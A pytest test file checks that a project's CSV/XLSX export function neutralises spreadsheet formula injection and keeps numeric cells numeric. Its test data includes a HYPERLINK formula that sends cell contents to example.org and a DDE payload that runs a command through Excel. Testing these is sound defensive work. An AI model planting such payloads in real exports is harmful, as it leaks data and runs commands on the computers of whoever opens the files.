"""export_response neutralises formulas in every text cell and keeps numbers numbers."""
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.exports import export_response

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A2;"Cliquez")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = [("=Titre", lambda row: row[0]), ("Montant", lambda row: row[1])]


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_a_formula_with_a_quote(text):
    rows = read_csv(export_response([(text, 1)], COLUMNS, "x", "csv"))
    assert rows[1][0] == "'" + text


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_a_formula_as_a_string_cell(text):
    sheet = read_xlsx(export_response([(text, 1)], COLUMNS, "x", "xlsx"))
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type == "s"
    # openpyxl writes and reads through lxml when it is installed (the tests' IATI check
    # installs it): a carriage return then comes back as itself, not as \n.
    assert cell.value == "'" + text


def test_headers_are_neutralised_too():
    assert read_csv(export_response([], COLUMNS, "x", "csv"))[0] == ["'=Titre", "Montant"]
    header = read_xlsx(export_response([], COLUMNS, "x", "xlsx")).cell(row=1, column=1)
    assert (header.data_type, header.value) == ("s", "'=Titre")


def test_plain_text_is_left_as_it_is():
    rows = [("Échanges scolaires Lyon – Trois-Rivières", 1), ("a=b, c-d", 2)]
    assert [row[0] for row in read_csv(export_response(rows, COLUMNS, "x", "csv"))[1:]] == [text for text, _ in rows]
    sheet = read_xlsx(export_response(rows, COLUMNS, "x", "xlsx"))
    assert [sheet.cell(row=n, column=1).value for n in (2, 3)] == [text for text, _ in rows]


@pytest.mark.parametrize("number", [-5, 0, 12, Decimal("-1234.50"), -0.25])
def test_numbers_stay_numeric_cells_even_negative(number):
    sheet = read_xlsx(export_response([("a", number)], COLUMNS, "x", "xlsx"))
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "n"
    assert cell.value == pytest.approx(float(number))


def test_negative_numbers_are_not_quoted_in_csv():
    rows = read_csv(export_response([("a", -5), ("b", Decimal("-1234.50")), ("c", -0.25)], COLUMNS, "x", "csv"))
    assert [row[1] for row in rows[1:]] == ["-5", "-1234,50", "-0,25"]


def test_text_that_looks_like_a_negative_number_is_text():
    assert read_csv(export_response([("a", "-5")], COLUMNS, "x", "csv"))[1][1] == "'-5"


def test_control_characters_do_not_break_the_workbook():
    sheet = read_xlsx(export_response([("\x0b=1+1 titre\x01", 1)], COLUMNS, "x", "xlsx"))
    cell = sheet.cell(row=2, column=1)
    assert (cell.data_type, cell.value) == ("s", "'=1+1 titre")


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError):
        export_response([], COLUMNS, "x", "pdf")


def test_no_module_writes_a_spreadsheet_but_export_response():
    """So every export, in the apps to come too, is neutralised in one place."""
    root = Path(__file__).resolve().parents[2]
    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(", "text/csv", "spreadsheetml")
    packages = [folder for folder in root.iterdir() if (folder / "__init__.py").exists()]
    found = [
        str(path.relative_to(root))
        for package in packages for path in package.rglob("*.py")
        if not {"tests", "migrations"} & set(path.relative_to(root).parts)
        and path != root / "core" / "exports.py"
        and any(writer in path.read_text(encoding="utf-8") for writer in writers)
    ]
    assert {"core", "projects", "dashboard"} <= {package.name for package in packages}
    assert found == []
